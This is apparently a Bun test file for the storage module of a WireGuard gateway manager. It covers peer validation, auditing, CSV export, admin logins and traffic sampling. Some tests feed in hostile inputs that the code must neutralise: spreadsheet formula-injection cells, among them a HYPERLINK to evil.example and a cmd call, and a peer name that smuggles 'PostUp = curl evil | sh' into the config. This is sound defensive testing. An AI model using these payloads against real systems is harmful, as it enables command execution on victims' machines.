import { expect, test } from "bun:test";
import { spawnSync } from "bun";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { encodeKey, generatePrivateKey, publicKeyOf } from "../crypto/x25519.ts";
import { LOW_ORDER_KEYS } from "../../test/support/low-order-keys.ts";
import { Database } from "bun:sqlite";
import { auditCsv, parsePeerInput, PeerRepository, PeerValidationError, Store, type PeerInput } from "./index.ts";

const dir = () => mkdtempSync(join(tmpdir(), "gg-store-"));
const key = () => encodeKey(publicKeyOf(generatePrivateKey()));

test("opening applies migrations in WAL mode; reopening is idempotent", () => {
  const d = dir();
  const s = Store.open(d);
  expect(s.sqlite.query("PRAGMA journal_mode").get()).toEqual({ journal_mode: "wal" });
  const tables = s.sqlite.query("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name").all().map((r) => (r as { name: string }).name);
  for (const t of ["peers", "resources", "audit_events", "traffic_samples", "admin_users", "api_tokens", "admin_sessions"]) expect(tables).toContain(t);
  s.close();
  Store.open(d).close();
});

test("peer create/update/delete each leave an audit event with before/after and no secrets", () => {
  const s = Store.open(dir());
  const input = parsePeerInput({ name: "laptop", publicKey: key(), presharedKey: encodeKey(generatePrivateKey()), allowedIps: "10.99.0.2/32", persistentKeepalive: "25" }) as PeerInput;
  const p = s.peers.create({ ...input, clientPrivateKey: encodeKey(generatePrivateKey()) }, "admin:alice");
  s.peers.update(p.id, { name: "work laptop", enabled: false }, "admin:alice");
  expect(s.peers.get(p.id)).toMatchObject({ name: "work laptop", enabled: false, persistentKeepalive: 25 });
  expect(s.peers.delete(p.id, "token:ci")).toBe(true);
  expect(s.peers.list()).toHaveLength(0);
  const { rows, total } = s.audit.query({ subject: p.publicKey });
  expect(total).toBe(3);
  expect(rows.map((r) => r.action)).toEqual(["peer.deleted", "peer.updated", "peer.created"]);
  expect(JSON.parse(rows[1]!.before!).name).toBe("laptop");
  expect(JSON.parse(rows[1]!.after!).name).toBe("work laptop");
  expect(rows[0]!.actor).toBe("token:ci");
  for (const r of rows) {
    expect(r.before ?? "").not.toContain(p.clientPrivateKey!);
    expect(r.after ?? "").not.toContain(p.clientPrivateKey!);
    expect(r.after ?? "").not.toContain(p.presharedKey!);
  }
});

test("a low-order public key is refused naming publicKey, and no row is stored", () => {
  const s = Store.open(dir());
  for (const bad of LOW_ORDER_KEYS) {
    let err: unknown;
    try {
      parsePeerInput({ name: "evil", publicKey: bad, allowedIps: "10.99.0.9/32" });
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(PeerValidationError);
    expect((err as PeerValidationError).fields.publicKey).toBe(`"${bad}" is a low-order point (X25519 with it gives an all-zero secret): not a usable public key`);
    // The repository refuses it too, for any caller that skipped the parser.
    expect(() => s.peers.create({ name: "evil", publicKey: bad, allowedIps: "10.99.0.9/32", persistentKeepalive: 0, enabled: true }, "x")).toThrow(PeerValidationError);
  }
  const row = s.peers.create(parsePeerInput({ name: "ok", publicKey: key(), allowedIps: "10.99.0.2" }) as PeerInput, "x");
  expect(() => s.peers.update(row.id, { publicKey: LOW_ORDER_KEYS[0]! }, "x")).toThrow(PeerValidationError);
  expect(s.peers.list().map((p) => p.publicKey)).toEqual([row.publicKey]);
});

test("bad peer input names each field and its value, and stores nothing", () => {
  const s = Store.open(dir());
  let err: unknown;
  try {
    parsePeerInput({ name: "", publicKey: "nope", allowedIps: "10.0.0.0/99", persistentKeepalive: "70000", expiresAt: "soon" });
  } catch (e) {
    err = e;
  }
  expect(err).toBeInstanceOf(PeerValidationError);
  const f = (err as PeerValidationError).fields;
  expect(f.name).toBe("is required");
  expect(f.publicKey).toBe('"nope" is not a WireGuard key (44 base64 characters)');
  expect(f.allowedIps).toContain('"10.0.0.0/99" has prefix length "99"');
  expect(f.persistentKeepalive).toBe('"70000" is above 65535');
  expect(f.expiresAt).toBe('"soon" is not a date');
  const k = key();
  s.peers.create(parsePeerInput({ name: "a", publicKey: k, allowedIps: "10.99.0.2" }) as PeerInput, "x");
  expect(() => s.peers.create(parsePeerInput({ name: "b", publicKey: k, allowedIps: "10.99.0.3" }) as PeerInput, "x")).toThrow("is already a peer");
  expect(s.peers.list()).toHaveLength(1);
  expect(s.audit.query({ action: "peer.created" }).total).toBe(1);
});

test("audit filters, paginates, prunes and exports CSV", () => {
  const s = Store.open(dir());
  for (let i = 0; i < 25; i++) s.audit.record({ actor: i % 2 ? "gateway" : "admin:bob", action: i % 2 ? "connection.established" : "admin.login", cid: i, reason: i === 3 ? 'said "hi", then left' : undefined }, 1_000 + i);
  expect(s.audit.query({ actor: "gateway" }).total).toBe(12);
  const page2 = s.audit.query({}, { limit: 10, offset: 10 });
  expect(page2.total).toBe(25);
  expect(page2.rows.map((r) => r.cid)).toEqual([14, 13, 12, 11, 10, 9, 8, 7, 6, 5]);
  expect(s.audit.query({ since: 1_020, until: 1_022 }).total).toBe(3);
  const csv = auditCsv(s.audit.query({ cid: 3 }).rows);
  expect(csv.split("\r\n")[0]).toBe("id,ts,actor,action,subject,cid,before,after,reason");
  expect(csv).toContain('"said ""hi"", then left"');
  expect(s.audit.prune(1_010)).toBe(10);
  expect(s.audit.query({}).total).toBe(15);
});

test("audit CSV cells that a spreadsheet would run as a formula are written as text", () => {
  const row = (subject: string) => ({ id: 1, ts: 0, actor: "anonymous@local", action: "admin.login_failed", subject, cid: null, before: null, after: null, reason: null, gid: null });
  const cell = (subject: string) => auditCsv([row(subject)]).split("\r\n")[1]!.split(",").slice(4).join(",").replace(/,+$/, "");
  expect(cell('=HYPERLINK("http://evil.example","x")')).toBe(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
  expect(cell("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
  expect(cell("-2+3")).toBe(`"'-2+3"`);
  expect(cell("@SUM(A1)")).toBe(`"'@SUM(A1)"`);
  expect(cell("\t=1")).toBe(`"'\t=1"`);
  expect(cell("\r=1")).toBe(`"'\r=1"`);
  expect(cell("alice")).toBe("alice");
  expect(cell("a=b")).toBe("a=b");
});

test("admin logins: success and failure are audited; sessions and tokens verify", async () => {
  const s = Store.open(dir());
  await s.auth.createUser("alice", "correct horse", "cli");
  expect(s.auth.userCount()).toBe(1);
  expect(await s.auth.login("alice", "wrong", "127.0.0.1")).toBeUndefined();
  expect(await s.auth.login("mallory", "x", "127.0.0.1")).toBeUndefined();
  const session = await s.auth.login("alice", "correct horse", "127.0.0.1");
  expect(session?.username).toBe("alice");
  expect(s.auth.session(session!.id)?.csrfToken).toBe(session!.csrfToken);
  s.auth.logout(session!.id);
  expect(s.auth.session(session!.id)).toBeUndefined();
  expect(s.audit.query({ action: "admin.login_failed" }).rows.map((r) => r.reason)).toEqual(["unknown user", "wrong password"]);
  expect(s.audit.query({ action: "admin.login" }).total).toBe(1);
  const token = s.auth.createToken("ci", "admin:alice");
  expect(s.auth.verifyToken(token)).toBe("ci");
  expect(s.auth.verifyToken(token + "x")).toBeUndefined();
  await expect(s.auth.createUser("bob", "short", "cli")).rejects.toThrow("at least 8 characters");
});

test("traffic history stores deltas and survives a reopen", () => {
  const d = dir();
  let s = Store.open(d);
  s.traffic.sample(1_000, [{ publicKey: "k", rxBytes: 100, txBytes: 50 }]);
  s.traffic.sample(2_000, [{ publicKey: "k", rxBytes: 300, txBytes: 50 }]);
  s.traffic.sample(3_000, [{ publicKey: "k", rxBytes: 300, txBytes: 50 }]); // no change, no row
  s.close();
  s = Store.open(d);
  expect(s.traffic.series("k", 0)).toEqual([{ ts: 1_000, rxBytes: 100, txBytes: 50 }, { ts: 2_000, rxBytes: 200, txBytes: 0 }]);
});

test("traffic sampling works with 70 000 busy peers (one INSERT had more variables than SQLite allows) and forgets peers that are gone", () => {
  const s = Store.open(dir());
  const peers = Array.from({ length: 70_000 }, (_, i) => ({ publicKey: `k${i}`, rxBytes: 100 + i, txBytes: 1 }));
  expect(s.traffic.sample(1_000, peers)).toBe(70_000);
  expect(s.sqlite.query("SELECT COUNT(*) AS n FROM traffic_samples").get()).toEqual({ n: 70_000 });
  // The peers change completely, many times: what the sampler remembers stays the current set.
  for (let round = 1; round <= 5; round++) s.traffic.sample(1_000 + round, Array.from({ length: 100 }, (_, i) => ({ publicKey: `r${round}-${i}`, rxBytes: 1, txBytes: 1 })));
  expect(s.traffic.remembered).toBe(100);
}, 30_000);

test("kill -9 right after a write loses no committed row", () => {
  const d = dir();
  const script = `import { Store } from "${join(import.meta.dir, "index.ts")}";
    const s = Store.open(process.argv[1]);
    for (let i = 0; i < 50; i++) s.audit.record({ actor: "gateway", action: "connection.established", cid: i });
    process.stdout.write("written\\n");
    process.kill(process.pid, "SIGKILL");`;
  const r = spawnSync(["bun", "-e", script, d]);
  expect(r.stdout.toString()).toContain("written");
  expect(r.signalCode).toBe("SIGKILL");
  const s = Store.open(d);
  expect(s.audit.query({ action: "connection.established" }).total).toBe(50);
});

test("reclaimed DNS proxy names leave the database, and their slot can be saved again for another name", () => {
  const s = Store.open(dir());
  const rows = Array.from({ length: 600 }, (_, i) => ({ domain: `n${i}.example.com`, slot: i, v4: [`100.96.${i >> 6}.${((i * 4) & 255) + 1}`], v6: [] }));
  for (const r of rows) s.proxyAssignments.save(r);
  s.proxyAssignments.remove(rows.slice(0, 550).map((r) => r.domain)); // more than one chunk
  expect(s.proxyAssignments.all().map((r) => r.domain)).toEqual(rows.slice(550).map((r) => r.domain));
  s.proxyAssignments.save({ domain: "new.example.com", slot: 0, v4: ["100.96.0.1"], v6: [] });
  expect(s.proxyAssignments.all().find((r) => r.slot === 0)?.domain).toBe("new.example.com");
  s.close();
});

test("a peer name with a control or bidi-override character is refused naming it; a huge bad value is echoed capped", () => {
  for (const [name, code, pos] of [["laptop\nPostUp = curl evil | sh", "000A", 7], ["\u001b[2Jadmin", "001B", 1], ["invoice\u202Efdp.exe", "202E", 8]] as const) {
    let err: unknown;
    try {
      parsePeerInput({ name, publicKey: key(), allowedIps: "10.99.0.2/32" });
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(PeerValidationError);
    expect((err as PeerValidationError).fields.name).toEndWith(`has a control or bidirectional-override character (U+${code}) at position ${pos}`);
    expect((err as PeerValidationError).message).not.toMatch(/[\u0000-\u001f]/);
  }
  expect(parsePeerInput({ name: "Zoë's phone 📱", publicKey: key(), allowedIps: "10.99.0.2/32" }).name).toBe("Zoë's phone 📱");
  let err: unknown;
  try {
    parsePeerInput({ name: "x", publicKey: "A".repeat(1_000_000), allowedIps: `10.0.0.1/32,${"9".repeat(1_000_000)}` });
  } catch (e) {
    err = e;
  }
  expect((err as PeerValidationError).message.length).toBeLessThan(700);
});

test("peers.list() read on bun:sqlite is row for row what drizzle reads, and the data-plane mark moves with every change", () => {
  const s = Store.open(dir());
  const a = s.peers.create(parsePeerInput({ name: "b-phone", publicKey: key(), presharedKey: encodeKey(generatePrivateKey()), allowedIps: "10.99.0.3/32", endpoint: "198.51.100.4:51820", persistentKeepalive: "25" }) as PeerInput, "admin:alice");
  s.peers.create(parsePeerInput({ name: "a-laptop", publicKey: key(), allowedIps: "10.99.0.2/32, fd00::2/128" }) as PeerInput, "admin:alice");
  const m0 = s.dataPlaneMark();
  expect(s.dataPlaneMark()).toBe(m0);
  s.peers.update(a.id, { enabled: false }, "admin:alice");
  const m1 = s.dataPlaneMark();
  expect(m1).not.toBe(m0);
  const viaDrizzle = new PeerRepository(s.db).list();
  expect(s.peers.list()).toEqual(viaDrizzle);
  expect(viaDrizzle.map((p) => [p.name, p.enabled])).toEqual([["a-laptop", true], ["b-phone", false]]);
  // Another connection's write (the CLI, a hand edit) moves it too, even one that keeps updated_at.
  const other = new Database(join(s.sqlite.filename));
  other.run("UPDATE peers SET allowed_ips = ? WHERE id = ?", ["10.99.0.9/32", a.id]);
  other.close();
  expect(s.dataPlaneMark()).not.toBe(m1);
  s.close();
});
